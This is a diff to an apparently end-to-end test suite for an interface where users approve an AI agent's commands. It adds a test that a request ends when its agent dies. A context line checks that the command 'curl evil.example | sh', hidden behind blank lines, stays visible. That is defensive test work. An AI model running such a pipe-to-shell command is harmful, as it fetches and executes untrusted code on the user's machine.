@@ -75,6 +75,23 @@ scene("an agent that repeats its ids asks anew, and its second prompt can be ans
   await toEnd(dock);
 }, 2);
 
+test("a request dies with its agent, and cannot be answered any more", { timeout: 120_000, skip }, async () => {
+  const someone = await person(world);
+  try {
+    await acting(someone, async () => {
+      const page = await someone.open();
+      const turn = await say(page, "ask mortal");
+      // It ends with its turn, which the agent's death ends.
+      await turn.locator("[data-resolution=turn_ended], [data-resolution=withdrawn]").waitFor();
+      assert.equal(await ended(turn), "interrupted");
+      assert.equal(await page.locator(".dock").count(), 0);
+      assert.equal(await page.getByRole("button", { name: "Allow once" }).count(), 0);
+    });
+  } finally {
+    await someone.context.close();
+  }
+});
+
 scene("a second command behind blank lines is in sight", "blank", async ({ dock }) => {
   await dock.getByText("60 blank lines").waitFor();
   assert.match(await dock.locator("pre").innerText(), /curl evil\.example \| sh/);
